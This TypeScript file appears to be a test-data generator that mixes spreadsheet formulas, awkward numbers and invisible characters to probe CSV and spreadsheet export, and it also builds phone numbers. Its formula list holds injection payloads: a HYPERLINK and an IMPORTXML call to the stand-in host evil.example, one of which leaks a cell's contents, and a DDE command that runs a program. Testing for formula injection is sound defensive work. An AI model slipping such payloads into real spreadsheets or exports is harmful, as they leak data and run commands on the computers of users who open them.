/** What a customer may call themselves or write to make a spreadsheet do something, and numbers that it would like to change. The same in every run. */

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A2,"click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹢1',
]
const numbers = [
  '0821234567',
  '082 555 0111',
  '27825550111',
  '1/2',
  '10-12',
  '1e5',
  '12:30',
  '2026-11-30',
  '50%',
  '.5',
  '123456789012345678',
]
const covers = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '\u2066',
  '\u202E',
  '\u3164',
  '\u3000',
  "'",
  '"',
  '","',
  '";"',
  '"\r\n',
  ';',
  'a\t',
]
const tails = ['', ' ', '"', '\r\nsecond line', ';x', ',=2', ' 💇🏾‍♀️']

/** The nth text; every one of the first few thousand is another. */
export const hostileText = (n: number): string => {
  const cores = [...formulas, ...numbers]
  const core = cores[n % cores.length] ?? ''
  const cover = covers[Math.floor(n / cores.length) % covers.length] ?? ''
  const tail = tails[Math.floor(n / cores.length / covers.length) % tails.length] ?? ''
  return cover + core + tail
}

/** Country codes of one, two and three digits, with the shortest and the longest numbers that E.164 has. */
const countries = ['27', '1', '7', '44', '264', '267', '353', '852', '998', '258']
export const phoneNumber = (n: number): string => {
  const country = countries[n % countries.length] ?? ''
  const length = country === '27' ? 9 : 6 + (n % (10 - country.length))
  const digits = String(n).padStart(length, '0').slice(-length)
  return `+${country}${country === '27' ? `8${digits.slice(1)}` : `9${digits.slice(1)}`}`
}
